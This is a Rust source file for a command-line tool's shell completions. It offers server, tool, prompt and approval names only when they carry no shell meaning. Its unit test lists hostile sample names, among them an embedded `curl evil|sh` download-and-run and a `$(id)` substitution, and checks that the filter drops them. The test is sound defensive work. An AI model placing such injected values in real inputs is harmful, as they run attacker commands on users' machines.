//! Shell completions for the names of servers, tools, prompts, arguments, and for approval IDs.
//!
//! **Invariant:** a shell inserts a completion into the command line unchanged, so a name that a
//! server chose is offered only if it has no special meaning in any shell.

use std::ffi::{OsStr, OsString};
use std::sync::Arc;
use std::time::Duration;

use capstan_app::Selection;
use capstan_app::api::is_plain;
use capstan_model::{ItemId, Kind, ServerName};
use clap::CommandFactory;
use clap_complete::engine::{ArgValueCompleter, CompletionCandidate};

use crate::Services;
use crate::args::Cli;

/// The longest time that pressing Tab waits for running gateways.
const GATEWAY_WAIT: Duration = Duration::from_secs(1);

/// The command line so far, which the shell passes after `--`.
struct Typed {
    words: Vec<String>,
    /// The index of the word that is completed; not every shell says it.
    index: Option<usize>,
}

/// The command with all completers; `words` are those of this process.
pub fn command(services: &Services, words: &[OsString]) -> clap::Command {
    let typed = Arc::new(Typed::read(services, words));
    let mut command = Cli::command();
    for verb in ["get", "remove", "edit", "enable", "disable", "doctor"] {
        let app = services.clone();
        let names = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, servers(&app)));
        command = command.mut_subcommand(verb, |verb| verb.mut_arg("name", |arg| arg.add(names)));
    }
    for (verb, argument) in [
        ("call", "tool"),
        ("why", "tool"),
        ("tools", "name"),
        ("resources", "server"),
        ("read", "resource"),
        ("prompts", "name"),
        ("prompt", "prompt"),
        ("pins", "server"),
    ] {
        let app = services.clone();
        let names = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, names(verb, &app)));
        command = command.mut_subcommand(verb, |verb| verb.mut_arg(argument, |arg| arg.add(names)));
    }
    for (verb, argument, kind) in [
        ("call", "arguments", Kind::Tool),
        ("why", "arguments", Kind::Tool),
        ("prompt", "words", Kind::Prompt),
    ] {
        let (app, typed) = (services.clone(), Arc::clone(&typed));
        let names = ArgValueCompleter::new(move |word: &OsStr| {
            let offered = fitting(word, typed.arguments(&app, verb, kind));
            let with_sign = |one: CompletionCandidate| {
                let mut name = one.get_value().to_owned();
                name.push("=");
                CompletionCandidate::new(name)
            };
            offered.into_iter().map(with_sign).collect::<Vec<_>>()
        });
        command = command.mut_subcommand(verb, |verb| verb.mut_arg(argument, |arg| arg.add(names)));
    }
    let (app, words) = (services.clone(), Arc::clone(&typed));
    let pinned = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, words.pins(&app)));
    command = command.mut_subcommand("pins", |pins| pins.mut_arg("tool", |arg| arg.add(pinned)));
    let app = services.clone();
    let names = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, servers(&app)));
    command = command.mut_subcommand("acl", |acl| {
        acl.mut_subcommand("classify", |verb| verb.mut_arg("server", |arg| arg.add(names)))
    });
    for verb in ["yes", "no", "show"] {
        let app = services.clone();
        let ids = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, approvals(&app)));
        command = command.mut_subcommand("approvals", |approvals| {
            approvals.mut_subcommand(verb, |verb| verb.mut_arg("id", |arg| arg.add(ids)))
        });
    }
    command
}

// === impl Typed ===

impl Typed {
    fn read(services: &Services, words: &[OsString]) -> Self {
        let words = words.iter().skip_while(|word| *word != "--").skip(1);
        let words = words.map(|word| word.to_string_lossy().into_owned()).collect();
        let index = services.configs.environment.variable("_CLAP_COMPLETE_INDEX");
        Self { words, index: index.and_then(|index| index.parse().ok()) }
    }

    /// The first word after a verb that is no option.
    fn after(&self, verb: &str) -> Option<&str> {
        let mut words = self.words.iter().skip_while(|word| *word != verb).skip(1);
        words.find(|word| !word.starts_with('-')).map(String::as_str)
    }

    /// The arguments that the tool or prompt can still get.
    fn arguments(&self, app: &Services, verb: &str, kind: Kind) -> Vec<String> {
        // Bash makes a word of its own of `=`, and one of the value.
        let near = |at: usize| self.words.get(at).is_some_and(|word| word == "=");
        if self.index.is_some_and(|at| near(at) || at.checked_sub(1).is_some_and(near)) {
            return Vec::new();
        }
        let Some(name) = self.after(verb) else { return Vec::new() };
        let known: Vec<ServerName> =
            servers(app).iter().filter_map(|one| one.parse().ok()).collect();
        let Some(ItemId { server, item }) = ItemId::resolve(name, known.iter()) else {
            return Vec::new();
        };
        let is_given = |name: &String| {
            let next = self.words.iter().skip(1).map(String::as_str).chain([""]);
            let given = |(word, next): (&String, &str)| {
                let rest = word.strip_prefix(name.as_str());
                rest.is_some_and(|rest| {
                    rest.starts_with(['=', ':']) || (rest.is_empty() && next == "=")
                })
            };
            self.words.iter().zip(next).any(given)
        };
        let mut names = app.names.arguments(kind, server.as_str(), &item);
        names.retain(|name| !is_given(name));
        names
    }

    /// The tools of the server whose pins are asked for.
    fn pins(&self, app: &Services) -> Vec<String> {
        let server = self.after("pins").unwrap_or_default();
        let mut known = app.names.remembered(Kind::Tool).into_iter();
        known.find(|(name, _)| name == server).map(|(_, names)| names).unwrap_or_default()
    }
}

/// The IDs of calls that wait for approval in running gateways.
fn approvals(app: &Services) -> Vec<String> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
    let Ok(runtime) = runtime else { return Vec::new() };
    let pending = async { tokio::time::timeout(GATEWAY_WAIT, app.approvals.list()).await };
    match runtime.block_on(pending) {
        Ok(Ok(pending)) => pending.questions.into_iter().map(|question| question.id).collect(),
        Ok(Err(_)) | Err(_) => Vec::new(),
    }
}

fn servers(app: &Services) -> Vec<String> {
    match app.configs.load(&Selection::default()) {
        Ok(setup) => setup.loaded.config.servers.keys().map(ToString::to_string).collect(),
        Err(_) => Vec::new(),
    }
}

/// The names that can follow a verb.
fn names(verb: &str, app: &Services) -> Vec<String> {
    let mut names = match verb {
        "call" | "why" | "tools" => seen(app, Kind::Tool),
        "prompt" | "prompts" => seen(app, Kind::Prompt),
        // There are too many URIs to store; the server's prefix is offered instead.
        "read" => servers(app).into_iter().map(|server| format!("@{server}:")).collect(),
        _ => Vec::new(),
    };
    if matches!(verb, "tools" | "prompts" | "resources" | "pins") {
        names.extend(servers(app));
    }
    names
}

/// Names from earlier commands, because starting servers at every press of Tab would take too long.
fn seen(app: &Services, kind: Kind) -> Vec<String> {
    let known = servers(app);
    let remembered =
        app.names.remembered(kind).into_iter().filter(|(server, _)| known.contains(server));
    remembered
        .flat_map(|(server, names)| names.into_iter().map(move |name| format!("{server}__{name}")))
        .collect()
}

fn fitting(typed: &OsStr, names: Vec<String>) -> Vec<CompletionCandidate> {
    let typed = typed.to_string_lossy();
    let fits = |name: &String| name.starts_with(typed.as_ref());
    let offered = names.into_iter().filter(|name| is_plain(name));
    offered.filter(fits).map(CompletionCandidate::new).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_names_that_mean_nothing_to_a_shell_are_offered() {
        let names = ["s__read_file", "s__a.b-c", "@s:file:///x", "s__2"];
        let hostile = [
            "s__x`curl evil|sh`",
            "s__$(id)",
            "s__a b",
            "s__a;b",
            "s__a'b",
            "s__a\"b",
            "s__a\nb",
            "s__a\\b",
            "s__*",
            "s__a&b",
            "s__a>b",
            "s__{a,b}",
            "s__~",
            "s__\u{1b}[2J",
            "s__ü",
            "",
        ];
        let all = names.iter().chain(&hostile).map(ToString::to_string).collect();
        let offered: Vec<String> = fitting(OsStr::new(""), all)
            .iter()
            .map(|candidate| candidate.get_value().to_string_lossy().into_owned())
            .collect();
        assert_eq!(offered, names);
    }
}
